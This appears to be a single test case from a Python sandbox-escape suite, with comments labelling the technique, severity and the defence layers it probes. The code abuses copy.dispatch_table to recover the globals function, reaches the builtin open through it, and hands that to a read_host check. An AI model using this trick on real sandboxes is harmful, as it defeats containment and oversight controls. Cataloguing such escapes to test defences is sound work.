# technique: the table of copying functions calls what the program puts in
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
import copy

class Own:
    pass

def trick():
    copy.dispatch_table[Own] = lambda thing: (globals, ())
    return copy.copy(Own())["__builtins__"]["open"]

read_host(trick)
